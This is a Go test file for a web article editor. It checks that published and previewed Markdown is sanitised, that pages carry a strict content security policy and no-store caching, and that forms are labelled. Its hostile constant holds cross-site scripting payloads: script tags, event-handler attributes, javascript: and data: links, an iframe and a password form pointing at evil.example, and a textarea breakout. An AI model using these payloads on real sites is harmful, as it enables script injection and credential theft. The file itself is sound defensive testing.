package editor_test

import (
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"hotline/adapters/web/secure"
)

// hostile is what a stolen login could put into an article.
const hostile = `先去法院。

<script>alert(1)</script> <img src=x onerror=alert(2)> <svg onload=alert(3)></svg>

[点我](javascript:alert(4)) [还有我](JaVaScRiPt:alert(5)) [数据](data:text/html,<script>alert(6)</script>)

![图](https://tracker.example/pixel.png) <iframe src="https://evil.example"></iframe>

<style>body{display:none}</style> <a href="/a/x" onclick="alert(7)" style="position:fixed">链接</a>

<form action="https://evil.example"><input name=password></form> </textarea><script>alert(8)</script>
{{.}} ` + "`<b>`"

func TestHostileMarkdownIsHarmless(t *testing.T) {
	h := newHouse(t)
	v := h.loggedIn("zhao")
	live := v.press(v.get("/editor/new"), "publish", markdown("order", hostile)).must(http.StatusOK)
	live.says("toast", "已发布")
	live.says("markdown", "</textarea><script>alert(8)</script>")
	harmless(t, "write page", live.root)
	public := h.visitor().get("/a/order").must(http.StatusOK)
	harmless(t, "public page", public.root)
	if find(public.root, func(n *html.Node) bool { return n.Data == "form" || n.Data == "iframe" || n.Data == "img" }) != nil {
		t.Error("the public page has a form, a frame or a picture")
	}

	answer := v.post("/editor/preview", url.Values{"id": {"order"}, "markdown": {markdown("order", hostile)}}).must(http.StatusOK)
	var said struct{ HTML string }
	if err := json.Unmarshal([]byte(answer.body), &said); err != nil {
		t.Fatal(err)
	}
	root, err := html.Parse(strings.NewReader(said.HTML))
	if err != nil {
		t.Fatal(err)
	}
	harmless(t, "preview", root)
	if !strings.Contains(said.HTML, `id="bubble"`) || !strings.Contains(said.HTML, "先去法院。") {
		t.Error("the preview does not show the text")
	}
}

func TestPagesHaveNoInlineCodeAndThePolicyForbidsIt(t *testing.T) {
	h := newHouse(t)
	h.seed(
		seedOf("order", "保护令", "rights", "去法院，打 [[电话:12348]]。", true),
		seedOf("flawed", "有错的", "rights", "打 [[电话:1]]。", false),
	)
	v := h.loggedIn("zhao")
	opened := v.get("/editor/articles/order")
	v.press(opened, "save", markdown("order", "改了。"))
	pages := map[string]page{
		"list":     v.get("/editor"),
		"empty":    v.get("/editor?q=nothing"),
		"new":      v.get("/editor/new"),
		"open":     v.get("/editor/articles/order"),
		"flawed":   v.get("/editor/articles/flawed"),
		"conflict": v.press(opened, "save", markdown("order", "也改了。")),
		"missing":  v.get("/editor/articles/none"),
	}
	for name, p := range pages {
		harmless(t, name, p.root)
		if got := p.header.Get("Content-Security-Policy"); got != secure.Policy {
			t.Errorf("%s: policy %q", name, got)
		}
		if !strings.Contains(p.header.Get("Cache-Control"), "no-store") {
			t.Errorf("%s: may be kept", name)
		}
		labelled(t, name, p.root)
	}
	for _, hook := range []string{"markdown", "save", "publish", "withdraw", "preview", "bubble"} {
		if find(opened.root, func(n *html.Node) bool { return attr(n, "id") == hook }) == nil {
			t.Errorf("no #%s", hook)
		}
	}
	for _, asset := range assets(opened.root) {
		v.get(asset).must(http.StatusOK)
	}
}

// harmless fails for anything that runs or restyles from within the page, and
// for anything that is loaded from elsewhere.
func harmless(t *testing.T, name string, root *html.Node) {
	t.Helper()
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if n.Data == "style" || n.Data == "iframe" || n.Data == "svg" {
			t.Errorf("%s: has <%s>", name, n.Data)
		}
		if n.Data == "script" && (n.FirstChild != nil || !strings.HasPrefix(attr(n, "src"), "/static/")) {
			t.Errorf("%s: has an inline or foreign script", name)
		}
		for _, a := range n.Attr {
			value := strings.ToLower(strings.TrimSpace(a.Val))
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "style",
				strings.HasPrefix(value, "javascript:"), a.Key == "href" && strings.HasPrefix(value, "data:text"),
				a.Key == "src" && !strings.HasPrefix(value, "/static/"):
				t.Errorf("%s: <%s %s=%q>", name, n.Data, a.Key, a.Val)
			}
		}
	}
}

// labelled fails for a page without one heading of the first rank, with an id
// that stands twice, or with a field that has no label.
func labelled(t *testing.T, name string, root *html.Node) {
	t.Helper()
	ids, labels, headings := map[string]int{}, map[string]bool{}, 0
	for n := range root.Descendants() {
		if id := attr(n, "id"); id != "" {
			ids[id]++
		}
		switch n.Data {
		case "label":
			labels[attr(n, "for")] = true
		case "h1":
			headings++
		}
	}
	for id, times := range ids {
		if times > 1 {
			t.Errorf("%s: id %q stands %d times", name, id, times)
		}
	}
	if headings != 1 {
		t.Errorf("%s: %d headings of the first rank", name, headings)
	}
	for n := range root.Descendants() {
		if n.Data != "input" && n.Data != "select" && n.Data != "textarea" || attr(n, "type") == "hidden" {
			continue
		}
		if n.Parent.Data != "label" && !labels[attr(n, "id")] {
			t.Errorf("%s: <%s name=%q> has no label", name, n.Data, attr(n, "name"))
		}
	}
}

func assets(root *html.Node) []string {
	var list []string
	for n := range root.Descendants() {
		switch n.Data {
		case "script":
			list = append(list, attr(n, "src"))
		case "link":
			list = append(list, attr(n, "href"))
		}
	}
	return list
}
